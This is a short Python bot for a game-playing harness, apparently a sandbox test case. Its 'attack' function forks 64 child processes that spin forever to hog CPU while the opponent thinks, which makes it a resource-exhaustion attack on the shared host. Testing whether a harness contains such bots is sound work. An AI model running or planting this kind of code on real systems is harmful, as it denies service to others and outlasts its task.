"""64 children that spin while the opponent thinks."""
import os

import bot


def attack():
    for _ in range(64):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            return


bot.play(attack)
